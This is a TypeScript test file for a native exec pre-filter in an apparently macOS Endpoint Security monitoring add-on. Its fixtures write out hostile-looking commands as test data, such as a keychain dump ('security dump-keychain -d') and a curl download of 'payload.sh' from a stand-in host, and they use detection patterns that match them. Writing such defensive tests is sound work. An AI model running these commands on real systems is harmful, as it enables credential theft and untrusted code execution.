// The native pre-filter: AUTH execs no block rule can match are allowed in native code and reported by their
// NOTIFY_EXEC only; only candidates go to JavaScript; a spec the native side cannot honour exactly is refused.
import { describe, expect, it } from "vitest";

import { type EsHandle, type MessageSpec, type PrefilterSpec, until } from "./es-standin/loadAddon.js";
import { recordEsSessions } from "./es-standin/session.js";

const es = recordEsSessions((addon) => expect(addon.standin.state()).toMatchObject({ killed: false, violations: [] }));
const toJs: string[] = [];

/** A session with this pre-filter whose JavaScript side records each AUTH exec it sees and allows it. */
function start(prefilter: PrefilterSpec | null | undefined): EsHandle {
  toJs.length = 0;
  return es.start({ authExec: true, prefilter }, (ev, h) => {
    toJs.push(String(ev.args?.join(" ")));
    es.addon.respond(h, ev.auth!.id, true);
  });
}

function exec(executable: string, args: (string | Uint8Array)[]): MessageSpec {
  return { type: "auth_exec", version: 7, tag: String(args[0]), args, target: { pid: 77, executable } };
}

const execs: MessageSpec[] = [
  exec("/bin/ls", ["ls", "-la", "/tmp"]),
  exec("/usr/bin/security", ["security", "dump-keychain", "-d"]),
  exec("/usr/bin/security", ["security", "DUMP-KEYCHAIN"]),
  exec("/usr/bin/osascript", ["osascript", "-e", "display dialog"]),
  exec("/usr/bin/git", ["git", "status"]),
  exec("/usr/bin/curl", ["curl", "-o", "/tmp/x", "https://example.com/payload.sh"]),
];

/** The AUTH execs, each followed by its NOTIFY_EXEC as ES sends it once the exec has run. */
async function run(specs: MessageSpec[]): Promise<void> {
  es.addon.standin.enqueue(specs.flatMap((spec) => [spec, { ...spec, type: "notify_exec" as const }]));
  const notified = (): number => es.events.filter((e) => !e.auth).length;
  await until(() => notified() === specs.length && es.addon.standin.authRecords().every((r) => r.answers === 1), "every exec answered and reported");
}

describe("pre-filter", () => {
  it("sends only candidates to JavaScript; the rest are allowed natively, uncached, and reported by their NOTIFY only", async () => {
    const h = start({ argEquals: ["dump-keychain"], executableBasename: ["OSAScript"], argContains: ["payload.sh"] });
    await run(execs);
    expect(toJs).toEqual([
      "security dump-keychain -d",
      "security DUMP-KEYCHAIN",
      "osascript -e display dialog",
      "curl -o /tmp/x https://example.com/payload.sh",
    ]);
    // Each exec once from its NOTIFY; the candidates also from their AUTH, just before.
    expect(es.events.filter((e) => !e.auth).map((e) => e.executable)).toEqual(execs.map((e) => e.target!.executable));
    expect(es.events.filter((e) => e.auth).map((e) => e.args?.[0])).toEqual(["security", "security", "osascript", "curl"]);
    expect(es.addon.standin.authRecords().every((r) => r.result === "allow" && r.cache === false)).toBe(true);
    expect(es.addon.esStats(h)).toMatchObject({ prefiltered: 2, authToJs: 4, received: 12, toJs: 10 });
  });

  it("no pre-filter: every AUTH exec goes to JavaScript", async () => {
    start(null);
    await run(execs);
    expect(toJs).toHaveLength(execs.length);
  });

  it("an empty spec means no exec can match: all allowed natively", async () => {
    const h = start({});
    await run(execs);
    expect(toJs).toEqual([]);
    expect(es.addon.esStats(h).prefiltered).toBe(execs.length);
  });

  it("arguments or basenames with non-ASCII bytes are always candidates (ASCII folding is not Unicode folding)", async () => {
    start({ argEquals: ["dump-keychain"], executableBasename: ["security"] });
    await run([
      exec("/usr/bin/env", ["env", "dump-\u212Aeychain"]), // KELVIN SIGN folds to k under Unicode rules
      exec("/usr/bin/env", ["env", new Uint8Array([0x64, 0xff])]),
      exec("/tmp/s\u00e9curity", ["x"]),
      exec("/usr/bin/env", ["env", "plain"]),
    ]);
    expect(toJs).toHaveLength(3);
  });

  it("setPrefilter replaces the spec while running; null removes it", async () => {
    const h = start({ argEquals: ["nothing-matches-this"] });
    await run([execs[0]]);
    expect(toJs).toEqual([]);
    es.addon.setPrefilter(h, { executableBasename: ["ls"] });
    es.events = [];
    await run([execs[0]]);
    expect(toJs).toEqual(["ls -la /tmp"]);
    es.addon.setPrefilter(h, null);
    es.events = [];
    await run([execs[4]]);
    expect(toJs).toEqual(["ls -la /tmp", "git status"]);
  });

  it("refuses specs it could not honour exactly, naming the problem", () => {
    const h = start(null);
    expect(() => es.addon.setPrefilter(h, { argRegex: ["x"] } as unknown as PrefilterSpec)).toThrow(/unknown key "argRegex"/);
    expect(() => es.addon.setPrefilter(h, { argEquals: ["caf\u00e9"] })).toThrow(/argEquals.*not ASCII/);
    expect(() => es.addon.setPrefilter(h, { argEquals: [3 as unknown as string] })).toThrow(/argEquals\[0\] must be a string/);
    expect(() => es.addon.setPrefilter(h, { argContains: "x" as unknown as string[] })).toThrow(/argContains must be an array/);
    expect(() => es.addon.setPrefilter(h, ["x"] as unknown as PrefilterSpec)).toThrow(/object or null/);
  });
});
